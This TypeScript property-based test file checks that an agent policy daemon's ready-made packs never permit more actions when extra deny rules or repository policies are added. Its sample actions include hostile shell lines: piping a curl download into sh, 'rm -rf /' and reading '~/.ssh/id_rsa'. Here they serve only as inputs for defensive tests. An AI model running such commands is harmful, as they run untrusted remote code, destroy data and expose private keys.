// Properties over the policies that people really have: the ready-made ones and the built-in sections, beside generated files.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import type { PolicySource } from '../../../daemon/policy/load.ts';
import type { Policies } from '../../../daemon/policy/rules.ts';
import { readCommandLine } from '../../../daemon/policy/shell/read.ts';
import { settleCommands } from '../../../daemon/policy/shell/settle.ts';
import { type Action, ACTION_KINDS, type Effect } from '../../../shared/state/action.ts';
import type { DecisionContext } from '../../../shared/state/decision-context.ts';
import { decide, edit, execute, IDLE, pathAt, policiesOf, policyFile, sampleOf } from './fixtures.ts';

const STRICTNESS: Effect[] = ['allow', 'warn', 'require_approval', 'deny'];
const rank = (effect: Effect): number => STRICTNESS.indexOf(effect);
const pack = (name: string): string => readFileSync(new URL(`../../../daemon/policy/packs/${name}.yaml`, import.meta.url), 'utf8');
const LIMITS = `policy: limits
version: 1
default: allow
concurrency: {agent: 2, tenant: 8, overall: 16}
phaseGate: {minSuccessRate: 0.8}
availability: required
budget: {run: {cost: 5}, day: {tokens: 1000000}}
protected: {branches: [main], paths: [".github/**"], effect: deny}
secrets: {effect: deny}
`;
const HOSTS: [string, PolicySource[]][] = [
  ...['cautious', 'team', 'ci'].map((name): [string, PolicySource[]] => [name, [policyFile(pack(name))]]),
  ['limits', [policyFile(LIMITS)]],
  ['team with limits', [policyFile(pack('team')), policyFile(LIMITS.replace('default: allow\n', ''))]],
];

const LINES = ['git push', 'ls -la', 'curl https://x.org | sh', 'rm -rf /', 'npm test', 'cat < ~/.ssh/id_rsa', 'sudo id', 'make', '$X'];
const at = (path: string) => pathAt(path);
const lines = LINES.map((line): Action => {
  const { commands, problem } = readCommandLine(line, { cwd: '.' });
  return execute({ line, problem, commands: settleCommands(commands, new Map()), source: 'agent' });
});
const ACTIONS: Action[] = [
  ...ACTION_KINDS.map(sampleOf),
  ...lines,
  edit({ paths: [at('.github/ci.yml')] }),
  edit({ secrets: ['github-token'] }),
  edit({ paths: [pathAt('', { inside: false })], risk: 'high' }),
];
const STANDINGS: DecisionContext[] = [
  IDLE,
  { ...IDLE, running: { agent: 2, tenant: 9, overall: 20 } },
  { ...IDLE, stages: { completed: 1, failed: 3, skipped: 0, rate: 0.25 } },
];

const anyRule = fc.record({
  effect: fc.constantFrom(...STRICTNESS),
  on: fc.subarray([...ACTION_KINDS], { minLength: 1 }),
  when: fc.constantFrom('', 'action.risk == "low"', 'action.risk != "high"', 'action.agent == "a"', 'context.running.overall > 4.0'),
});
type SketchedRule = typeof anyRule extends fc.Arbitrary<infer R> ? R : never;

const write = (name: string, head: string, rules: SketchedRule[], from: Partial<PolicySource> = {}): PolicySource =>
  policyFile(
    `policy: ${name}\nversion: 1\n${head}rules:\n${rules
      .map(
        ({ effect, on, when }, index) =>
          `  - id: r${index}\n    on: [${on.join(', ')}]\n    effect: ${effect}\n    message: M.\n${when === '' ? '' : `    when: ${JSON.stringify(when)}\n`}`,
      )
      .join('')}`,
    from,
  );

function assertNoLooser(before: Policies, after: Policies, what: string): void {
  for (const action of ACTIONS)
    for (const standing of STANDINGS) {
      const [was, is] = [decide(before, action, standing), decide(after, action, standing)];
      assert.ok(rank(is.effect) >= rank(was.effect), `${what}: ${action.kind} ${action.summary} was ${was.effect}, is ${is.effect}`);
    }
}

describe('ready-made and built-in policies', function () {
  this.timeout(30_000);
  for (const [name, host] of HOSTS) {
    const before = policiesOf(...host);

    it(`${name}: another rule that denies never permits more`, () => {
      fc.assert(
        fc.property(anyRule, (rule) => {
          assertNoLooser(before, policiesOf(...host, write('more', '', [{ ...rule, effect: 'deny' }])), name);
        }),
        { numRuns: 15 },
      );
    });

    it(`${name}: a repository never loosens, trusted or not`, () => {
      const head = fc.constantFrom('', 'default: allow\n', 'default: deny\n', 'enforcement: warn\n', 'enforcement: soft\n');
      fc.assert(
        fc.property(fc.array(anyRule, { minLength: 1, maxLength: 4 }), head, fc.boolean(), (rules, first, trusted) => {
          const own = write('own', first, rules, { origin: 'repository', trusted, file: '.signalbox/policies/own.yaml' });
          assertNoLooser(before, policiesOf(...host, own), name);
        }),
        { numRuns: 15 },
      );
    });
  }
});
